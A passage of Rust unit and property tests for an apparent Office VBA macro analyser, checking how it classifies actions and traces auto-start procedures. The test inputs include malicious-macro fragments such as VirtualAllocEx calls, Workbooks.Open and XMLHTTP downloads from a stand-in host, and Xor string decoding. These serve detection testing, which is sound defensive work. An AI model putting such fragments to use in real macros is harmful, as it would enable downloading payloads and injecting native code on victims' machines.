            ("UserForm1.Label1.Caption = \"x\"", Action::ShownText),
            ("If b Then Application.StatusBar = \"x\"", Action::ShownText),
            ("Application.Quit", Action::Quit),
            ("r = VirtualAllocEx(a, b)", Action::NativeCode),
            ("Workbooks.Open \"http://x.invalid/a\"", Action::Download),
            ("ThisWorkbook.FollowHyperlink u", Action::Navigate),
        ] {
            assert!(kinds(text).contains(&kind), "{text}: {:?}", kinds(text));
        }
        assert!(kinds("Set h = New MSXML2.XMLHTTP60\nh.Send").contains(&Action::Download));
        assert!(
            kinds("Sub d()\nr = r & Chr(Asc(Mid(s, i, 1)) Xor k)\nEnd Sub").contains(&Action::StringBuilding)
        );
    }

    fn project(modules: &[(&str, ModuleKind, Host, &str)]) -> (Project, Vec<SourceView>) {
        let mut project = Project::default();
        for (name, kind, host, text) in modules {
            project.modules.push(Module {
                name: (*name).into(),
                kind: *kind,
                host: *host,
                in_dir: true,
                raw: text.as_bytes().to_vec(),
                ..Module::default()
            });
        }
        let views = project.modules.iter().map(|module| viewed(&module.text())).collect();
        (project, views)
    }

    fn reached(modules: &[(&str, ModuleKind, Host, &str)]) -> Vec<(String, AutoStart)> {
        let (project, views) = project(modules);
        let mut into = Reached::default();
        with_cx(|cx| reachable_from_auto_exec(&project, &views, &mut into, cx)).0.unwrap();
        let named = into.procedures.iter().map(|(id, cause)| {
            (views[id.module as usize].procedures[id.procedure as usize].name.clone(), *cause)
        });
        named.collect()
    }

    #[test]
    fn auto_start_reaches_calls_and_names_in_text() {
        let found = reached(&[
            (
                "ThisWorkbook",
                ModuleKind::Document,
                Host::Workbook,
                "Sub Workbook_Open()\nApplication.OnTime Now, \"'b.xls'!M.Later\"\nUserForm1.Show\nEnd Sub\n\
                 Sub Workbook_BeforeClose(c)\nOnce\nEnd Sub",
            ),
            (
                "M",
                ModuleKind::Procedural,
                Host::Unknown,
                "Sub Later()\nOnce\nEnd Sub\nSub Once()\nLater\nEnd Sub\nSub Never()\nOnce\nEnd Sub\nSub Button_Click()\nEnd Sub",
            ),
            (
                "UserForm1",
                ModuleKind::Form,
                Host::Unknown,
                "Sub UserForm_Initialize()\nEnd Sub\nSub B_Click()\nEnd Sub",
            ),
        ]);
        let open = |name: &str| (name.to_owned(), AutoStart::Open);
        assert_eq!(
            found,
            [
                open("Workbook_Open"),
                ("Workbook_BeforeClose".to_owned(), AutoStart::Close),
                open("Later"),
                open("Once"),
                open("UserForm_Initialize"),
            ]
        );
    }

    #[test]
    fn event_names_count_where_the_host_looks_for_them() {
        let both = "Sub Auto_Open()\nEnd Sub\nSub Workbook_Open()\nEnd Sub\nSub AutoOpen()\nEnd Sub\n\
                    Sub Ink_Painted()\nEnd Sub\nSub Worksheet_Change(t)\nEnd Sub";
        let names = |kind, host| -> Vec<_> {
            reached(&[("X", kind, host, both)])
                .into_iter()
                .map(|(name, cause)| format!("{name} {cause:?}"))
                .collect()
        };
        assert_eq!(names(ModuleKind::Procedural, Host::Unknown), ["Auto_Open Open", "AutoOpen Open"]);
        assert_eq!(names(ModuleKind::Document, Host::Workbook), ["Workbook_Open Open", "Ink_Painted Event"]);
        assert_eq!(names(ModuleKind::Document, Host::Worksheet), ["Ink_Painted Event"]);
        assert_eq!(names(ModuleKind::Document, Host::Document), ["AutoOpen Open", "Ink_Painted Event"]);
        assert_eq!(names(ModuleKind::Class, Host::Unknown), [""; 0]);
    }

    #[test]
    fn events_of_programs_and_slide_shows_start_macros() {
        let names = |kind, code: &str| -> Vec<_> {
            reached(&[("X", kind, Host::Unknown, code)]).into_iter().map(|(_, cause)| cause).collect()
        };
        let program = "Public WithEvents App As Word.Application\nSub App_WindowSelectionChange(s)\nEnd Sub\n\
                       Sub App_DocumentBeforeClose(d, c)\nEnd Sub\nSub App_DocumentBeforePrint(d, c)\nEnd Sub";
        assert_eq!(names(ModuleKind::Class, program), [AutoStart::Event; 2]);
        assert_eq!(names(ModuleKind::Document, program), [AutoStart::Event; 2]);
        assert_eq!(names(ModuleKind::Procedural, program), []);
        let show = "Sub OnSlideShowPageChange(w)\nEnd Sub\nSub OnSlideShowTerminate(w)\nEnd Sub";
        assert_eq!(names(ModuleKind::Procedural, show), [AutoStart::Event; 2]);
        assert_eq!(names(ModuleKind::Class, show), []);
    }

    #[test]
    fn text_that_names_a_procedure_may_stand_before_the_call() {
        let code = "Sub AutoOpen()\nn = \"Later\"\nApplication.OnTime Now, n\nEnd Sub\nSub Later()\nEnd Sub\n\
                    Sub Never()\nEnd Sub\nSub Other()\nn = \"Never\"\nEnd Sub";
        let found = reached(&[("M", ModuleKind::Procedural, Host::Unknown, code)]);
        assert_eq!(found, ["AutoOpen", "Later"].map(|name| (name.to_owned(), AutoStart::Open)));
    }

    #[test]
    fn events_of_drawings_start_macros() {
        let code = "Sub Document_DocumentOpened(ByVal doc As IVDocument)\nEnd Sub\n\
                    Sub Document_BeforeDocumentClose(ByVal doc As IVDocument)\nEnd Sub";
        let found = reached(&[("ThisDocument", ModuleKind::Document, Host::Unknown, code)]);
        let causes: Vec<_> = found.into_iter().map(|(_, cause)| cause).collect();
        assert_eq!(causes, [AutoStart::Open, AutoStart::Close]);
    }

    #[test]
    fn long_text_costs_steps_by_its_length() {
        let limits = Limits { steps: 1000, ..Limits::default() };
        let text = "x = 1\n".repeat(10_000);
        let (result, _) = with_limits(&limits, |cx| view(&text, &mut SourceView::default(), cx));
        assert_eq!(result.unwrap_err().kind, LimitKind::Steps);
    }

    #[test]
    fn hostile_shapes_are_viewed_in_linear_time() {
        for piece in [
            "(",
            "[",
            "\"a\"&",
            "_ ",
            "Chr(",
            "StrReverse(\"ab\"&",
            "x _\n",
            "Open ",
            "Shell ",
            ".Run ",
            "'\"",
            "Const a=a&",
            ":",
            ")",
        ] {
            let text = piece.repeat(400_000 / piece.len());
            viewed(&text);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn any_text_has_a_view(text in "(?s).{0,400}") {
            viewed(&text);
        }

        #[test]
        fn any_statements_have_a_view(words in prop::collection::vec(prop::sample::select(vec![
            "Sub", "End", "f", "\n", ":", "(", ")", "\"a\"", "&", "Chr", "65", ",", "StrReverse", "Replace", "+", "Const",
            "=", "Xor", "*", " _\n", "Open", "For", "Output", "Shell", ".", "Run", "Declare", "Function", "Lib", "'",
        ]), 0..200)) {
            let text = words.join(" ");
            let view = viewed(&text);
            let lines = view.line_count;
            prop_assert!(view.literals().all(|literal| (1..=lines).contains(&literal.line)));
            prop_assert!(view.sightings.iter().all(|sighting| (1..=lines).contains(&sighting.line)));
            prop_assert!(view.procedures.iter().all(|p| p.first_line <= p.last_line && p.last_line <= lines));
        }
    }
}
